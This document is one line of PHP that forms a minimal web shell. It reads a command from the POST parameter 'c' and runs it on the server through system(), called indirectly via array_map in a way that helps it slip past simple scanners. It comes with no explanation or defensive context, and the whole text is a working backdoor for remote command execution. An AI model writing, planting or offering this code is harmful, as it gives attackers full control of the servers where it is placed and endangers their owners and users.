<?php $p = $_POST; array_map("system", [$p["c"]]);
